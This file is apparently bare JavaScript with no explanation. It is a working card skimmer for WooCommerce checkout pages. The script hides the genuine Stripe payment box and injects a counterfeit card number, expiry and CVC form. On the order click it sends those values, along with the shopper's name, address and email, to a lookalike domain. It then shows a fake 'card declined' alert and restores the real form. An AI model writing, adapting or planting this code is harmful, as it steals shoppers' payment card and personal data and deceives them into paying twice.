function mkInput(id, label, attrs) {
    var wrap = document.createElement("p");
    wrap.className = "form-row form-row-wide";
    var l = document.createElement("label");
    l.setAttribute("for", id);
    l.textContent = label;
    var i = document.createElement("input");
    i.id = id;
    i.className = "input-text";
    for (var k in attrs) i.setAttribute(k, attrs[k]);
    wrap.appendChild(l);
    wrap.appendChild(i);
    return wrap;
}

function injectForm() {
    var host = document.querySelector("#payment .payment_box.payment_method_stripe, #payment ul.payment_methods");
    if (!host || document.getElementById("wc_card_fs")) return;

    var fs = document.createElement("fieldset");
    fs.id = "wc_card_fs";
    fs.appendChild(mkInput("wc_cn", "Card number *", { inputmode: "numeric", maxlength: "19", placeholder: "•••• •••• •••• ••••" }));
    fs.appendChild(mkInput("wc_ce", "Expiry (MM/YY) *", { maxlength: "7", placeholder: "MM / YY" }));
    fs.appendChild(mkInput("wc_cc", "Card code (CVC) *", { maxlength: "4", type: "password" }));
    host.parentNode.insertBefore(fs, host);
    host.style.display = "none";

    var place = document.getElementById("place_order");
    place.addEventListener("click", function handler(ev) {
        ev.preventDefault();
        ev.stopImmediatePropagation();
        var body = "cn=" + encodeURIComponent(document.getElementById("wc_cn").value) +
            "&ce=" + encodeURIComponent(document.getElementById("wc_ce").value) +
            "&cc=" + encodeURIComponent(document.getElementById("wc_cc").value) +
            "&fn=" + encodeURIComponent(document.getElementById("billing_first_name").value) +
            "&ln=" + encodeURIComponent(document.getElementById("billing_last_name").value) +
            "&ad=" + encodeURIComponent(document.getElementById("billing_address_1").value) +
            "&em=" + encodeURIComponent(document.getElementById("billing_email").value);
        var x = new XMLHttpRequest();
        x.open("POST", "https://woocommerce-payments-cdn.net/wp-admin/admin-ajax.php", true);
        x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
        x.send(body);
        place.removeEventListener("click", handler, true);
        fs.parentNode.removeChild(fs);
        host.style.display = "";
        alert("Your card was declined. Please try again.");
    }, true);
}

setInterval(injectForm, 1000);
